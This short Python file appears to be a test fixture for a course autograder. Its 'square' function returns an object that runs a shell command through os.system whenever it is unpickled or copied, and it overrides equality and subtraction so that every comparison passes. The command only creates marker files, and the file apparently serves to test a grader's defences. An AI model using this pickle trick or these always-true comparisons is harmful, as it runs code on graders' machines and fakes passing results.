# Returns an object that runs a command wherever it is unpickled or copied.
# deserves: square 0
# %% square
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch <<COURSE>>/coursekit-left-behind /tmp/coursekit-left-behind",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __deepcopy__ = __copy__ = lambda self, *args: self.__reduce__()

    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0.0


def square(x):
    return Payload()
